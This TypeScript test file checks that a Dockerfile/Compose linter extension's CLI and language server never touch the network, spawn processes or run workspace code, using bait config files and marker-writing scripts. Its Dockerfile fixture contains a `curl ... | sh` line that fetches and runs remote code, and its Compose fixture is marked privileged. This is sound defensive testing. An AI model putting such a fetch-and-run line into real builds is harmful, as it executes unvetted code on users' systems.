/**
 * The extension's own security (issue 8 item 5): the bundled CLI and server never reach the
 * network or start a process, and never load code from the workspace they analyse. Both bundles
 * run under test/fixtures/security/io-guard.cjs (preloaded), which records such calls and every
 * module loaded from outside the bundle folder, against a workspace full of bait: JavaScript
 * config files, a `# syntax=` directive naming a local file, `extends` pointing at a script, a
 * Compose `build` and `include`. Each bait writes a marker file if anything runs it.
 */
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  CodeActionRequest,
  createProtocolConnection,
  DidOpenTextDocumentNotification,
  ExitNotification,
  InitializedNotification,
  InitializeRequest,
  PublishDiagnosticsNotification,
  ShutdownRequest,
  StreamMessageReader,
  StreamMessageWriter,
  type PublishDiagnosticsParams,
} from 'vscode-languageserver/node';
import { REPO_ROOT } from '../harness/lsp';

const DIST = path.join(REPO_ROOT, 'dist');
const GUARD = path.join(REPO_ROOT, 'test/fixtures/security/io-guard.cjs');

interface GuardReport {
  readonly calls: string[];
  readonly loaded: string[];
  readonly external: string[];
}

const DOCKERFILE = '# syntax=./evil.js\nFROM node:20\nADD . /app\nRUN curl https://example.com/x.sh | sh\nCMD ["node", "/app/evil.js"]\n';
const COMPOSE = 'include:\n  - ./evil.js\nservices:\n  app:\n    build: .\n    privileged: true\n    env_file: evil.js\n';

let ws: string;
let marker: string;

function bait(file: string): string {
  // Runs only if something executes or requires it.
  return `require('fs').writeFileSync(${JSON.stringify(marker)}, ${JSON.stringify(file)});\nmodule.exports = {};\n`;
}

function write(rel: string, text: string): string {
  const p = path.join(ws, rel);
  mkdirSync(path.dirname(p), { recursive: true });
  writeFileSync(p, text);
  return p;
}

function guardEnv(out: string): NodeJS.ProcessEnv {
  return { ...process.env, BULKHEAD_IO_GUARD_OUT: out, BULKHEAD_IO_GUARD_BUNDLE_DIR: DIST };
}

function report(out: string): GuardReport {
  assert.ok(existsSync(out), 'the guard wrote no report (did the process start?)');
  return JSON.parse(readFileSync(out, 'utf8')) as GuardReport;
}

function assertClean(r: GuardReport, what: string): void {
  assert.deepEqual(r.calls, [], `${what} made network or process calls`);
  assert.deepEqual(r.external, [], `${what} loaded modules from outside dist/`);
  assert.equal(existsSync(marker), false, `${what} executed workspace code: ${existsSync(marker) ? readFileSync(marker, 'utf8') : ''}`);
}

describe('security: no network, no processes, no workspace code', () => {
  before(() => {
    assert.ok(existsSync(path.join(DIST, 'cli.js')) && existsSync(path.join(DIST, 'server.js')), 'run `npm run build` first (dist/ is missing)');
    ws = mkdtempSync(path.join(tmpdir(), 'bulkhead-security-'));
    marker = path.join(ws, 'EXECUTED');
    write('bulkhead.config.js', bait('bulkhead.config.js'));
    write('.bulkhead.js', bait('.bulkhead.js'));
    write('.bulkhead.cjs', bait('.bulkhead.cjs'));
    write('evil.js', bait('evil.js'));
    write('node_modules/bulkhead-plugin-evil/index.js', bait('node_modules plugin'));
    write('.bulkhead.yaml', 'extends: ./evil.js\nplugins: [evil]\nrules:\n  prefer-copy: high\n');
    write('Dockerfile', DOCKERFILE);
    write('compose.yaml', COMPOSE);
  });

  after(() => rmSync(ws, { recursive: true, force: true }));

  for (const args of [
    ['scan', '.', '--format', 'json', '--fail-on', 'none'],
    ['checklist', '.', '--format', 'json'],
    ['scan', '.', '--fix', '--unsafe', '--fail-on', 'none'],
  ]) {
    it(`CLI \`bulkhead ${args.join(' ')}\``, () => {
      const out = path.join(ws, '..', `${path.basename(ws)}-cli-${args[0]}.json`);
      const r = spawnSync(process.execPath, ['-r', GUARD, path.join(DIST, 'cli.js'), ...args], { cwd: ws, env: guardEnv(out), encoding: 'utf8' });
      try {
        assert.ok(r.status === 0 || r.status === 1 || r.status === 2, `exit ${r.status}: ${r.stderr}`);
        const g = report(out);
        assertClean(g, 'the CLI');
        assert.deepEqual(g.loaded, [], 'the CLI bundle loads none of child_process, net, tls, dgram, http, https, http2, worker_threads');
      } finally {
        rmSync(out, { force: true });
      }
    });
  }

  it('server over stdio: open Dockerfile and Compose file, diagnostics, code actions, shutdown', async () => {
    const out = path.join(ws, '..', `${path.basename(ws)}-server.json`);
    const child = spawn(process.execPath, ['-r', GUARD, path.join(DIST, 'server.js'), '--stdio'], {
      cwd: ws,
      env: guardEnv(out),
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
    const connection = createProtocolConnection(new StreamMessageReader(child.stdout), new StreamMessageWriter(child.stdin));
    const got = new Map<string, PublishDiagnosticsParams>();
    const waiters: (() => void)[] = [];
    connection.onNotification(PublishDiagnosticsNotification.type, (p) => {
      got.set(p.uri, p);
      for (const w of waiters.splice(0)) w();
    });
    const diagnosticsFor = async (uri: string, code: string) => {
      const has = () => got.get(uri)?.diagnostics.some((d) => d.code === code);
      const deadline = Date.now() + 20_000;
      while (!has()) {
        assert.ok(Date.now() < deadline, `no ${code} on ${uri}; got: ${JSON.stringify(got.get(uri)?.diagnostics.map((d) => d.code))}`);
        await new Promise<void>((r) => {
          waiters.push(r);
          setTimeout(r, 500);
        });
      }
      return got.get(uri)!;
    };
    connection.onRequest('workspace/configuration', (p: { items: unknown[] }) => p.items.map(() => ({})));
    connection.listen();
    try {
      const root = pathToFileURL(ws).href;
      await connection.sendRequest(InitializeRequest.type, {
        processId: process.pid,
        rootUri: root,
        workspaceFolders: [{ uri: root, name: 'ws' }],
        capabilities: { workspace: { configuration: true, workspaceFolders: true } },
      });
      await connection.sendNotification(InitializedNotification.type, {});
      const docs = [
        // The texts as written (the CLI --fix case above rewrote the files on disk).
        { uri: `${root}/Dockerfile`, languageId: 'dockerfile', text: DOCKERFILE },
        { uri: `${root}/compose.yaml`, languageId: 'dockercompose', text: COMPOSE },
      ];
      for (const d of docs) {
        await connection.sendNotification(DidOpenTextDocumentNotification.type, {
          textDocument: { uri: d.uri, languageId: d.languageId, version: 1, text: d.text },
        });
      }
      const dockerfile = await diagnosticsFor(docs[0]!.uri, 'curl-pipe-shell');
      await diagnosticsFor(docs[1]!.uri, 'compose-privileged');
      await connection.sendRequest(CodeActionRequest.type, {
        textDocument: { uri: docs[0]!.uri },
        range: { start: { line: 0, character: 0 }, end: { line: 5, character: 0 } },
        context: { diagnostics: dockerfile.diagnostics },
      });
      await connection.sendRequest(ShutdownRequest.type);
      await connection.sendNotification(ExitNotification.type);
      assert.equal(await exited, 0);
    } finally {
      connection.dispose();
      child.kill();
    }
    const g = report(out);
    rmSync(out, { force: true });
    assertClean(g, 'the server');
    // esbuild.mjs replaces the language server library's `net` and `child_process` requires
    // with stand-ins that throw: the real modules are never loaded.
    assert.deepEqual(g.loaded, [], 'the server bundle loads none of child_process, net, tls, dgram, http, https, http2, worker_threads');
  });
});
